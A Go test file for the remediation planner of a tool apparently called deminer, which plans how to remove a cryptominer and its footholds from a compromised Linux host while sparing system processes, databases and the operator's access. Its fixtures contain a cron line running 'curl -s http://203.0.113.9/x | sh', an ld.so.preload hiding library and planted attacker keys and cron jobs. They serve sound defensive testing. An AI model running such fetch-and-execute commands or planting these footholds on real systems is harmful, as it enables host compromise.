package plan

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/deminer/deminer"
)

var now = time.Date(2026, 3, 3, 4, 0, 0, 0, time.UTC)

func member(a deminer.Artifact, actions ...deminer.Verb) deminer.Member {
	m := deminer.Member{Artifact: a, Grade: deminer.Convicted, Why: []string{"proof: test"}}
	for _, v := range actions {
		m.Remove = append(m.Remove, deminer.Action{Verb: v, Target: a})
	}
	return m
}

func proc(pid int) deminer.Artifact {
	return deminer.Artifact{Kind: deminer.KindProcess, Proc: deminer.ProcID{PID: pid, Start: uint64(pid)}}
}

func file(name string) deminer.Artifact {
	return deminer.Artifact{Kind: deminer.KindFile, Path: deminer.Raw(name)}
}

func line(name, text string) deminer.Artifact {
	return deminer.Artifact{Kind: deminer.KindLine, Path: deminer.Raw(name), Line: deminer.Raw(text)}
}

func report(members ...deminer.Member) *deminer.Report {
	intact := deminer.Provenance{State: deminer.Intact}
	id := func(n int) deminer.ProcID { return deminer.ProcID{PID: n, Start: uint64(n)} }
	return &deminer.Report{
		Snapshot: deminer.Snapshot{
			Host: deminer.HostInfo{Source: "live", Self: []deminer.ProcID{id(50), id(40)}},
			Processes: []deminer.Process{
				{ID: id(1), Exe: "/usr/lib/systemd/systemd", Own: intact},
				{ID: id(2), Kernel: true},
				{ID: id(30), PPID: 1, Exe: "/usr/sbin/sshd", Own: intact},
				{ID: id(40), PPID: 30, Exe: "/usr/sbin/sshd", Own: intact, Started: now.Add(-time.Hour)},
				{ID: id(50), PPID: 40, Exe: "/root/deminer"},
				{ID: id(60), PPID: 1, Exe: "/usr/lib/postgresql/15/bin/postgres", Own: intact},
				{ID: id(66), Exe: "/tmp/.x/kswapd0", Own: deminer.Provenance{State: deminer.Unowned}},
				{ID: id(61), PPID: 1, Exe: "/usr/bin/systemd-nspawn", Own: intact},
			},
			Footholds: []deminer.Foothold{
				{Path: "/root/.ssh/authorized_keys", Line: "ssh-rsa MINE", Key: "SHA256:mine"},
				{Path: "/root/.ssh/authorized_keys", Line: "ssh-rsa THEIRS", Key: "SHA256:theirs"},
				{Path: "/etc/cron.d/x", Line: "*/30 * * * * root /tmp/x", Every: 30 * time.Minute},
			},
			Logins: []deminer.Login{{Kind: "login", User: "root", From: "192.0.2.9", Key: "SHA256:mine", Time: now.Add(-time.Hour)},
				{Kind: "login", User: "ops", From: "192.0.2.9", Time: now.Add(-time.Hour)}},
			Accounts: []deminer.Account{{Name: "root", Home: "/root"}, {Name: "postgres", Home: "/var/lib/postgresql"}},
		},
		Incidents: []deminer.Incident{{ID: "AAAA", Members: members}},
	}
}

func TestProtectedTargetsAreNeverPlanned(t *testing.T) {
	cases := map[string]deminer.Member{
		"pid 1":                  member(proc(1), deminer.VerbFreeze, deminer.VerbKill),
		"kernel thread":          member(proc(2), deminer.VerbKill),
		"the SSH server":         member(proc(30), deminer.VerbKill),
		"the operator's sshd":    member(proc(40), deminer.VerbKill),
		"deminer":                member(proc(50), deminer.VerbFreeze),
		"a database":             member(proc(60), deminer.VerbKill),
		"a container launcher":   member(proc(61), deminer.VerbKill),
		"gone process":           member(proc(4711), deminer.VerbKill),
		"the operator's key":     member(line("/root/.ssh/authorized_keys", "ssh-rsa MINE"), deminer.VerbCutLine),
		"the file with that key": member(file("/root/.ssh/authorized_keys"), deminer.VerbQuarantine),
		"the same, dotted":       member(file("/root/.ssh/./authorized_keys"), deminer.VerbDropFile),
		"the operator's account": member(deminer.Artifact{Kind: deminer.KindAccount, Name: "ops"}, deminer.VerbRemoveAccount),
		"the same, locked":       member(deminer.Artifact{Kind: deminer.KindAccount, Name: "ops"}, deminer.VerbLock),
		"passwd":                 member(file("/etc/passwd"), deminer.VerbQuarantine),
		"a top directory":        member(file("/opt"), deminer.VerbQuarantine),
		"dotted":                 member(file("/opt/../etc/shadow"), deminer.VerbDropFile),
		"a packaged file":        member(file("/usr/sbin/sshd"), deminer.VerbQuarantine),
		"database data":          member(file("/var/lib/postgresql/15/main/base"), deminer.VerbQuarantine),
		"root's home":            member(file("/root"), deminer.VerbQuarantine),
		"root":                   member(deminer.Artifact{Kind: deminer.KindAccount, Name: "root"}, deminer.VerbRemoveAccount),
		"the operator's net":     member(deminer.Artifact{Kind: deminer.KindAddress, Addr: "192.0.2.9:22"}, deminer.VerbBlock),
		"loopback":               member(deminer.Artifact{Kind: deminer.KindAddress, Addr: "127.0.0.1:3333"}, deminer.VerbBlock),
		"a module":               member(deminer.Artifact{Kind: deminer.KindModule, Name: "evil"}, deminer.VerbUnload),
	}
	for what, m := range cases {
		p := Make(report(m), Options{}, now)
		if len(p.Steps) != 0 || len(p.Refused) == 0 {
			t.Errorf("%s: %d steps, %d refusals", what, len(p.Steps), len(p.Refused))
		}
	}
}

// TestWatchCoversWhatIsChanged: the longest period counts of every trigger that the plan touches, not only of lines that go whole.
func TestWatchCoversWhatIsChanged(t *testing.T) {
	entry := deminer.Foothold{Path: "/etc/cron.d/shop", Line: "0 * * * * root /opt/backup; curl -s http://203.0.113.9/x | sh", Every: time.Hour}
	edit := func(target deminer.Artifact) deminer.Member {
		m := member(target)
		m.Remove = []deminer.Action{{Verb: deminer.VerbEditLine, Target: target, Args: map[string]deminer.Raw{"new": "true"}}}
		return m
	}
	script := deminer.Foothold{Path: "/etc/cron.d/shop", Line: "0 * * * * root /opt/shop.sh", Targets: []string{"/opt/shop.sh"}, Every: time.Hour}
	for what, c := range map[string]struct {
		f    deminer.Foothold
		m    deminer.Member
		want time.Duration
	}{
		"a line that loses a command":         {entry, edit(entry.Artifact()), 2 * time.Hour},
		"another line of the file":            {entry, edit(line("/etc/cron.d/shop", "@reboot root /tmp/x; true")), 0},
		"a script that loses a command":       {script, edit(line("/opt/shop.sh", "curl -s http://203.0.113.9/x | sh")), 2 * time.Hour},
		"a file that goes with all its lines": {entry, member(file("/etc/cron.d/shop"), deminer.VerbDropFile), 2 * time.Hour},
	} {
		r := report(c.m)
		r.Snapshot.Footholds = append(r.Snapshot.Footholds, c.f)
		usual := Make(report(c.m), Options{}, now).Watch
		if got := Make(r, Options{}, now).Watch; got != max(usual, c.want) {
			t.Errorf("%s: watch %s, want %s", what, got, max(usual, c.want))
		}
	}
}

func TestOrderAndDependencies(t *testing.T) {
	preload := line("/etc/ld.so.preload", "/usr/local/lib/libhide.so")
	unit := file("/etc/systemd/system/x.service")
	reload := deminer.Action{Verb: deminer.VerbReload, Target: deminer.Artifact{Kind: deminer.KindHost}, Args: map[string]deminer.Raw{"units": "x.service"}}
	um := member(unit, deminer.VerbDropFile)
	um.Remove = append(um.Remove, reload)
	other := member(file("/etc/systemd/system/y.service"), deminer.VerbDropFile)
	reload.Args = map[string]deminer.Raw{"units": "y.service"}
	other.Remove = append(other.Remove, reload)
	p := Make(report(
		member(file("/usr/local/lib/libhide.so"), deminer.VerbQuarantine), um, other,
		member(proc(66), deminer.VerbFreeze, deminer.VerbKill),
		member(deminer.Artifact{Kind: deminer.KindAddress, Addr: "203.0.113.7:3333"}, deminer.VerbBlock),
		member(preload, deminer.VerbCutLine),
		member(line("/root/.ssh/authorized_keys", "ssh-rsa THEIRS"), deminer.VerbCutLine),
		member(line("/etc/cron.d/x", "*/30 * * * * root /tmp/x"), deminer.VerbCutLine),
	), Options{}, now)
	var verbs []string
	for _, s := range p.Steps {
		verbs = append(verbs, string(s.Action.Verb))
	}
	want := "freeze block cut-line drop-file drop-file cut-line cut-line reload kill quarantine"
	if got := strings.Join(verbs, " "); got != want {
		t.Errorf("order\n got %s\nwant %s", got, want)
	}
	if p.Steps[2].Action.Target.Ref() != preload.Ref() {
		t.Errorf("the preload line is not the first to go: %s", p.Steps[2].Action.Target)
	}
	last := p.Steps[len(p.Steps)-1]
	if !slices.Contains(last.After, p.Steps[2].ID) {
		t.Errorf("the library may leave before its preload line: after %v", last.After)
	}
	if units := p.Steps[7].Action.Args["units"]; units != "x.service y.service" {
		t.Errorf("one reload for both units wanted, got %q", units)
	}
	if p.Watch != time.Hour {
		t.Errorf("watch %s, want twice the longest period", p.Watch)
	}
	for _, s := range p.Steps {
		if s.Undo == (s.Action.Verb == deminer.VerbKill) {
			t.Errorf("%s: undo %v", s.Action.Verb, s.Undo)
		}
	}
}

func TestOnlyConvictedOrAsked(t *testing.T) {
	m := member(file("/tmp/.x/kswapd0"), deminer.VerbQuarantine)
	m.Grade = deminer.Suspected
	if p := Make(report(m), Options{}, now); len(p.Steps) != 0 {
		t.Errorf("a suspect was acted on")
	}
	if p := Make(report(m), Options{Also: []string{m.Artifact.Ref()}}, now); len(p.Steps) != 1 {
		t.Errorf("a suspect the owner named was not acted on")
	}
	m.Grade = deminer.Convicted
	if p := Make(report(m), Options{Skip: []string{m.Artifact.Ref()}}, now); len(p.Steps) != 0 {
		t.Errorf("a thing the owner spared was acted on")
	}
	if p := Make(report(m), Options{Incidents: []string{"BBBB"}}, now); len(p.Steps) != 0 {
		t.Errorf("another incident was acted on")
	}
}

func TestSleepingHostGetsFileStepsOnly(t *testing.T) {
	r := report(member(file("/tmp/.x/kswapd0"), deminer.VerbQuarantine), member(deminer.Artifact{Kind: deminer.KindAddress, Addr: "203.0.113.7:3333"}, deminer.VerbBlock))
	r.Snapshot.Host.Source = "root:/mnt"
	p := Make(r, Options{}, now)
	if len(p.Steps) != 1 || p.Steps[0].Action.Verb != deminer.VerbQuarantine {
		t.Errorf("steps %+v", p.Steps)
	}
}

func TestFirewallForms(t *testing.T) {
	p := Make(report(member(deminer.Artifact{Kind: deminer.KindAddress, Addr: "203.0.113.7:3333"}, deminer.VerbBlock), member(deminer.Artifact{Kind: deminer.KindAddress, Addr: "[2001:db8::7]:443"}, deminer.VerbBlock)), Options{}, now)
	for form, want := range map[string]string{
		"text":     "deny egress tcp to 203.0.113.7/32 port 3333\ndeny egress tcp to 2001:db8::7/128 port 443",
		"iptables": "iptables -I OUTPUT -p tcp -d 203.0.113.7/32 --dport 3333 -j REJECT\nip6tables -I OUTPUT -p tcp -d 2001:db8::7/128 --dport 443 -j REJECT",
		"nft":      "add rule inet filter output ip daddr 203.0.113.7 tcp dport 3333 reject\nadd rule inet filter output ip6 daddr 2001:db8::7 tcp dport 443 reject",
	} {
		got, err := Firewall(p, form)
		if err != nil || strings.Join(got, "\n") != want {
			t.Errorf("%s: %v\n%s", form, err, strings.Join(got, "\n"))
		}
	}
	if _, err := Firewall(p, "pf"); err == nil {
		t.Error("an unknown form was accepted")
	}
}

func TestDigestChangesWithEveryByte(t *testing.T) {
	p := Make(report(member(file("/tmp/.x/kswapd0"), deminer.VerbQuarantine)), Options{}, now)
	q := Make(report(member(file("/tmp/.x/kswapd1"), deminer.VerbQuarantine)), Options{}, now)
	if p.Digest() == q.Digest() || p.ID == q.ID {
		t.Error("two plans have one name")
	}
}

func TestTwoPartsOfOneLineBecomeOneChange(t *testing.T) {
	edit := func(part, to string) deminer.Member {
		a := line("/etc/group", "sudo:x:27:alice,evil,worse")
		a.Part = part
		m := member(a)
		m.Remove = []deminer.Action{{Verb: deminer.VerbEditLine, Target: a, Args: map[string]deminer.Raw{"new": deminer.Raw(to)}}}
		return m
	}
	p := Make(report(edit("evil", "sudo:x:27:alice,worse"), edit("worse", "sudo:x:27:alice,evil")), Options{}, now)
	if len(p.Steps) != 1 || p.Steps[0].Action.Args["new"] != "sudo:x:27:alice" {
		t.Fatalf("steps %+v refused %+v", p.Steps, p.Refused)
	}
	cut := member(line("/etc/group", "sudo:x:27:alice,evil,worse"), deminer.VerbCutLine)
	if p = Make(report(edit("evil", "sudo:x:27:alice,worse"), cut), Options{}, now); len(p.Steps) != 1 || p.Steps[0].Action.Verb != deminer.VerbCutLine {
		t.Errorf("cutting the line does not win: %+v", p.Steps)
	}
	if _, ok := apply("a b c", "a c", "a x c"); ok {
		t.Error("a change to what is gone already was made")
	}
}

// What a tired operator would lose without noticing: system accounts, databases outside packages, his own network.
func TestTheBusinessIsNeverPlanned(t *testing.T) {
	account := func(name string) deminer.Artifact { return deminer.Artifact{Kind: deminer.KindAccount, Name: name} }
	addr := func(a string) deminer.Artifact { return deminer.Artifact{Kind: deminer.KindAddress, Addr: a} }
	tied := func(a deminer.Artifact, v ...deminer.Verb) deminer.Member {
		m := member(a, v...)
		m.Why = []string{"tied: something started it"}
		return m
	}
	id := func(n int) deminer.ProcID { return deminer.ProcID{PID: n, Start: uint64(n)} }
	intact := deminer.Provenance{State: deminer.Intact}
	base := func(m deminer.Member) *deminer.Report {
		r := report(m)
		r.Snapshot.Processes = append(r.Snapshot.Processes,
			deminer.Process{ID: id(70), PPID: 1, Exe: "/opt/mysql/bin/mysqld", Own: deminer.Provenance{State: deminer.Unowned}},
			deminer.Process{ID: id(71), PPID: 30, Exe: "/usr/sbin/sshd", Own: intact, Started: now.Add(-2 * time.Hour)},
			deminer.Process{ID: id(72), PPID: 1, Exe: "/usr/bin/php", Own: intact})
		r.Snapshot.Logins = append(r.Snapshot.Logins, deminer.Login{Kind: "login", User: "bob", Key: "SHA256:theirs", Time: now.Add(-2 * time.Hour)})
		r.Snapshot.Sockets = []deminer.Socket{{Remote: "203.0.113.50:443", Owners: []deminer.ProcID{id(72)}}}
		return r
	}
	for what, m := range map[string]deminer.Member{
		"a system account":          member(account("www-data"), deminer.VerbRemoveAccount),
		"an unpackaged database":    tied(proc(70), deminer.VerbKill),
		"a table":                   member(file("/data/mysql/ibdata1"), deminer.VerbQuarantine),
		"a table of a panel":        member(file("/www/server/data/shop/orders.ibd"), deminer.VerbQuarantine),
		"a name server":             member(addr("192.0.2.53:53"), deminer.VerbBlock),
		"the neighbor's Redis":      member(addr("10.0.0.3:6379"), deminer.VerbBlock),
		"what PHP talks to, too":    member(addr("203.0.113.50:443"), deminer.VerbBlock),
		"a key somebody works with": tied(line("/root/.ssh/authorized_keys", "ssh-rsa THEIRS"), deminer.VerbCutLine),
	} {
		if p := Make(base(m), Options{}, now); len(p.Steps) != 0 || len(p.Refused) == 0 {
			t.Errorf("%s: %d steps", what, len(p.Steps))
		}
	}
	// A finding that names the address, or a proof against the key, is reason enough.
	r := base(member(addr("10.0.0.3:3333"), deminer.VerbBlock))
	r.Findings = []deminer.Finding{{Tier: deminer.Proof, Indicators: []deminer.Indicator{{Kind: "pool", Value: "10.0.0.3:3333"}}}}
	if p := Make(r, Options{}, now); len(p.Steps) != 1 {
		t.Errorf("a pool in the own network stays open: %+v", p.Refused)
	}
	if p := Make(base(member(line("/root/.ssh/authorized_keys", "ssh-rsa THEIRS"), deminer.VerbCutLine)), Options{}, now); len(p.Steps) != 1 {
		t.Errorf("a proven key stays: %+v", p.Refused)
	}
}

func TestALongTriggerBecomesAdvice(t *testing.T) {
	r := report(member(file("/etc/cron.daily/x"), deminer.VerbDropFile))
	r.Snapshot.Footholds = append(r.Snapshot.Footholds, deminer.Foothold{Path: "/etc/cron.daily/x", Every: 24 * time.Hour})
	p := Make(r, Options{}, now)
	if n := len(p.Advice); n == 0 || !strings.Contains(p.Advice[n-1], "verify again after 2026-03-04 04:00") {
		t.Errorf("advice %q", p.Advice)
	}
}

func TestFirewallFormsForAWholeAddress(t *testing.T) {
	p := deminer.Plan{Steps: []deminer.Step{{Action: deminer.Action{Verb: deminer.VerbBlock, Target: deminer.Artifact{Kind: deminer.KindAddress, Addr: "203.0.113.7"}}}}}
	for form, want := range map[string]string{"text": "deny egress to 203.0.113.7/32", "iptables": "iptables -I OUTPUT -d 203.0.113.7/32 -j REJECT", "nft": "add rule inet filter output ip daddr 203.0.113.7 reject"} {
		if got, err := Firewall(p, form); err != nil || len(got) != 1 || got[0] != want {
			t.Errorf("%s: %v %v", form, got, err)
		}
	}
}

// TestProgramIsHuntedAgain: after the files of a killed program went to the vault, what runs it is killed once more, once
// for each program, and only for programs that go.
func TestProgramIsHuntedAgain(t *testing.T) {
	r := report(member(proc(66), deminer.VerbFreeze, deminer.VerbKill), member(proc(67), deminer.VerbFreeze, deminer.VerbKill),
		member(proc(68), deminer.VerbFreeze, deminer.VerbKill), member(file("/tmp/.x/kswapd0"), deminer.VerbQuarantine))
	for i := range r.Snapshot.Processes {
		if p := &r.Snapshot.Processes[i]; p.ID.PID == 66 {
			p.SHA256, p.ExeAttr = "ab", deminer.Attr{Size: 7, Dev: 8, Ino: 9}
			twin, stays := *p, *p
			twin.ID = deminer.ProcID{PID: 67, Start: 67}
			stays.ID, stays.Exe, stays.SHA256 = deminer.ProcID{PID: 68, Start: 68}, "/opt/y", "cd"
			r.Snapshot.Processes = append(r.Snapshot.Processes, twin, stays)
			break
		}
	}
	p := Make(r, Options{}, now)
	last := p.Steps[len(p.Steps)-1]
	want := deminer.Expect{SHA256: "ab", Exe: "/tmp/.x/kswapd0", Size: 7, Dev: 8, Ino: 9}
	if last.Action.Verb != deminer.VerbKill || last.Phase != deminer.PhaseQuarantine || last.Expect != want || last.Action.Args["again"] != "yes" {
		t.Errorf("the last step is %+v", last)
	}
	kills := 0
	for _, s := range p.Steps {
		if s.Action.Verb == deminer.VerbKill {
			kills++
			if again := s.Action.Args["again"] == "yes"; again != (s.Phase == deminer.PhaseQuarantine) {
				t.Errorf("step %s: again %v in phase %s", s.ID, again, s.Phase)
			}
		}
	}
	if kills != 4 {
		t.Errorf("%d kills, want 3 and one more for the program that goes", kills)
	}
	if err := Check(p); err != nil {
		t.Errorf("the plan is refused when it is read from a file: %v", err)
	}
}

// TestTwinsSpareWhatTheirOwnStepsSpare: the step on one process of a program comes upon the others, too, and leaves alone what
// must not be touched below them, and those that a person decided to leave alone.
func TestTwinsSpareWhatTheirOwnStepsSpare(t *testing.T) {
	r := report(member(proc(66), deminer.VerbFreeze, deminer.VerbKill), member(proc(67), deminer.VerbFreeze, deminer.VerbKill),
		member(proc(68), deminer.VerbFreeze, deminer.VerbKill), member(file("/tmp/.x/kswapd0"), deminer.VerbQuarantine))
	for i := range r.Snapshot.Processes {
		switch p := &r.Snapshot.Processes[i]; p.ID.PID {
		case 60:
			p.PPID = 67 // a database below a twin
		case 66:
			p.SHA256, p.ExeAttr = "ab", deminer.Attr{Size: 7, Dev: 8, Ino: 9}
			for _, pid := range []int{67, 68} {
				twin := *p
				twin.ID = proc(pid).Proc
				r.Snapshot.Processes = append(r.Snapshot.Processes, twin)
			}
		}
	}
	kills := 0
	for _, s := range Make(r, Options{Skip: []string{proc(68).Ref()}}, now).Steps {
		if s.Action.Verb != deminer.VerbFreeze && s.Action.Verb != deminer.VerbKill {
			continue
		}
		kills++
		if got := string(s.Action.Args["spare"]); got != "60@60 68@68" {
			t.Errorf("%s %s spares %q", s.Action.Verb, s.Action.Target, got)
		}
	}
	if kills != 5 {
		t.Errorf("%d steps on processes, want 5", kills)
	}
}

func TestPhases(t *testing.T) {
	miner, kept := proc(66), file("/tmp/.x/kswapd0")
	rep := report(member(miner, deminer.VerbFreeze, deminer.VerbKill), member(kept, deminer.VerbQuarantine))
	verbs := func(phases ...deminer.Phase) (out []deminer.Verb) {
		for _, s := range Make(rep, Options{Phases: phases}, now).Steps {
			out = append(out, s.Action.Verb)
		}
		return out
	}
	if got, want := verbs(deminer.PhaseFreeze, deminer.PhaseKill), []deminer.Verb{deminer.VerbFreeze, deminer.VerbKill}; !slices.Equal(got, want) {
		t.Errorf("freeze and kill: %v, want %v", got, want)
	}
	if all, one := verbs(), Make(rep, Options{Phases: []deminer.Phase{deminer.PhaseKill}}, now); len(all) < 3 || len(one.Steps) != 1 || one.Steps[0].ID != "s01" || one.ID == Make(rep, Options{}, now).ID {
		t.Errorf("all: %v; one: %+v", all, one)
	}
}
